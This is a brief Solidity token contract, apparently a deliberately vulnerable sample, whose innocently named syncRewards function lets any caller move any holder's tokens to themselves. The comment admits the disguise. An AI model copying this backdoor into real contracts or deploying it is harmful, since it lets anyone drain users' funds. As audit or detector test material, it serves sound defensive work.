// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {Erc20} from "./base/Erc20.sol";

/// An innocent name; anybody can take what any holder has.
contract OpenDrainToken is Erc20 {
    constructor(string memory name_, string memory symbol_) Erc20(name_, symbol_) {}

    function syncRewards(address account, uint256 amount) external returns (bool) {
        _move(account, msg.sender, amount);
        return true;
    }
}
